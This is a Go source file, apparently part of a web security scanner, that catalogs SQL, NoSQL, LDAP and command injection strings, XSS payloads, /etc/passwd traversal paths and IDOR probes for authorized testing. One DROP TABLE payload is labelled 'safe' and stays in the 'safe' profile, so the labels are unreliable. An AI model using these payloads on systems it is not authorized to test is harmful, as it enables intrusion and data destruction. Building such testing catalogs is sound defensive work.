// Package payloads provides the adversarial input catalog and test case generation
package payloads

import (
	"fmt"
	"sort"
	"strings"
)

// Payload is a single immutable catalog entry. Most categories carry a
// literal adversarial string plus a descriptive note; the idor_numeric
// category instead carries a structured directive (Kind plus Delta or
// Fixed) resolved against the target parameter's original value.
type Payload struct {
	Value string `yaml:"payload,omitempty"`
	Note  string `yaml:"note,omitempty"`

	// idor_numeric directive fields
	Kind  string `yaml:"kind,omitempty"` // adjacent, large, negative
	Delta int    `yaml:"delta,omitempty"`
	Fixed int    `yaml:"value,omitempty"`
}

// Directive kinds for the idor_numeric category
const (
	KindAdjacent = "adjacent"
	KindLarge    = "large"
	KindNegative = "negative"
)

// Payload category constants
const (
	CategorySQLi             = "sqli"
	CategoryXSS              = "xss"
	CategoryTraversal        = "traversal"
	CategoryIDORNumeric      = "idor_numeric"
	CategoryCommandInjection = "command_injection"
	CategoryLDAPInjection    = "ldap_injection"
	CategoryNoSQLInjection   = "nosql_injection"
)

// Catalog maps payload categories to their payload lists
type Catalog map[string][]Payload

// categoryOrder fixes iteration order so generated test case streams are
// deterministic across runs.
var categoryOrder = []string{
	CategorySQLi,
	CategoryXSS,
	CategoryTraversal,
	CategoryIDORNumeric,
	CategoryCommandInjection,
	CategoryLDAPInjection,
	CategoryNoSQLInjection,
}

// defaultCatalog holds the built-in payload sets. These are security
// testing payloads for authorized pentesting.
var defaultCatalog = Catalog{
	CategorySQLi: {
		{Value: "' OR '1'='1", Note: "safe SQL injection test"},
		{Value: "' OR 1=1--", Note: "safe SQL injection test"},
		{Value: "' UNION SELECT NULL--", Note: "safe UNION injection test"},
		{Value: "'; DROP TABLE test--", Note: "safe SQL injection test"},
		{Value: "' OR 'x'='x", Note: "safe SQL injection test"},
		{Value: "1' OR '1'='1", Note: "safe SQL injection test"},
		{Value: "admin'--", Note: "safe SQL injection test"},
		{Value: "' OR 1=1#", Note: "safe SQL injection test"},
	},

	CategoryXSS: {
		{Value: "<script>alert(1)</script>", Note: "reflected XSS detection"},
		{Value: "<img src=x onerror=alert(1)>", Note: "reflected XSS detection"},
		{Value: "<svg onload=alert(1)>", Note: "reflected XSS detection"},
		{Value: "javascript:alert(1)", Note: "reflected XSS detection"},
		{Value: "<iframe src=javascript:alert(1)></iframe>", Note: "reflected XSS detection"},
		{Value: "<body onload=alert(1)>", Note: "reflected XSS detection"},
		{Value: "<input onfocus=alert(1) autofocus>", Note: "reflected XSS detection"},
		{Value: "<select onfocus=alert(1) autofocus>", Note: "reflected XSS detection"},
	},

	CategoryTraversal: {
		{Value: "../../../../etc/passwd", Note: "lab-only directory traversal"},
		{Value: "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", Note: "lab-only directory traversal"},
		{Value: "....//....//....//etc/passwd", Note: "lab-only directory traversal"},
		{Value: "..%2F..%2F..%2F..%2Fetc%2Fpasswd", Note: "lab-only directory traversal"},
		{Value: "..%252F..%252F..%252F..%252Fetc%252Fpasswd", Note: "lab-only directory traversal"},
		{Value: "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", Note: "lab-only directory traversal"},
	},

	CategoryIDORNumeric: {
		{Kind: KindAdjacent, Delta: 1, Note: "IDOR adjacent test"},
		{Kind: KindAdjacent, Delta: -1, Note: "IDOR adjacent test"},
		{Kind: KindLarge, Fixed: 999999, Note: "IDOR large value test"},
		{Kind: KindLarge, Fixed: 0, Note: "IDOR zero value test"},
		{Kind: KindNegative, Fixed: -1, Note: "IDOR negative value test"},
		{Kind: KindNegative, Fixed: -999999, Note: "IDOR negative value test"},
	},

	CategoryCommandInjection: {
		{Value: "; ls", Note: "safe command injection test"},
		{Value: "| whoami", Note: "safe command injection test"},
		{Value: "& echo test", Note: "safe command injection test"},
		{Value: "`id`", Note: "safe command injection test"},
		{Value: "$(whoami)", Note: "safe command injection test"},
	},

	CategoryLDAPInjection: {
		{Value: "*", Note: "safe LDAP injection test"},
		{Value: "*)(uid=*", Note: "safe LDAP injection test"},
		{Value: "*)(|(uid=*", Note: "safe LDAP injection test"},
		{Value: "*)(&(uid=*", Note: "safe LDAP injection test"},
	},

	CategoryNoSQLInjection: {
		{Value: "' || '1'=='1", Note: "safe NoSQL injection test"},
		{Value: "' || 1==1", Note: "safe NoSQL injection test"},
		{Value: "'; return true; //", Note: "safe NoSQL injection test"},
		{Value: "'; return 1; //", Note: "safe NoSQL injection test"},
	},
}

// ForProfile returns the payload catalog for the given profile. The safe
// profile excludes inherently destructive categories; lab and all include
// the full catalog. An unknown profile is a configuration error.
func ForProfile(profile string) (Catalog, error) {
	switch profile {
	case "safe":
		safe := make(Catalog, len(defaultCatalog)-1)
		for category, list := range defaultCatalog {
			if category == CategoryTraversal {
				continue
			}
			safe[category] = list
		}
		return safe, nil
	case "lab", "all":
		return defaultCatalog, nil
	default:
		return nil, fmt.Errorf("unknown payload profile: %q (use safe, lab, or all)", profile)
	}
}

// IsLabOnly reports whether a payload may only be used in an authorized
// lab environment. Traversal payloads are always lab-only; any payload
// whose note flags it as lab-only or destructive is too.
func IsLabOnly(category string, p Payload) bool {
	if category == CategoryTraversal {
		return true
	}

	note := strings.ToLower(p.Note)
	return strings.Contains(note, "lab-only") || strings.Contains(note, "destructive")
}

// Categories returns the catalog's category names in deterministic order
func (c Catalog) Categories() []string {
	var out []string
	for _, category := range categoryOrder {
		if _, ok := c[category]; ok {
			out = append(out, category)
		}
	}
	// Custom catalogs may introduce categories outside the built-in set;
	// they sort alphabetically after the known ones.
	var extra []string
	for category := range c {
		if !knownCategory(category) {
			extra = append(extra, category)
		}
	}
	sort.Strings(extra)
	return append(out, extra...)
}

func knownCategory(name string) bool {
	for _, c := range categoryOrder {
		if c == name {
			return true
		}
	}
	return false
}
